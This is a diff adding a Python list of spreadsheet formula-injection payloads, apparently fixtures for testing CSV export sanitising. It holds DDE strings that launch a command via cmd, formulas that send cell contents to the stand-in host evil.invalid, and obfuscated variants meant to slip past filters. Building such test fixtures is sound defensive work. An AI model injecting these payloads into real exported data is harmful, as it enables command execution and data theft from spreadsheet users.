@@ -1,0 +1,25 @@
+"""Cells that a spreadsheet would calculate, fetch or run."""
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.invalid?x="&A1,"Click")',
+    '=IMPORTXML(CONCAT("http://evil.invalid?v=",A1),"//a")',
+    '=WEBSERVICE("http://evil.invalid")',
+    '=DDE("cmd";"/C calc";"x")',
+    "+1+cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "-1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "a;=1+1",
+    'a",=1+1,"',
+    "%0A-1+cmd|' /C calc'!A0",
+]
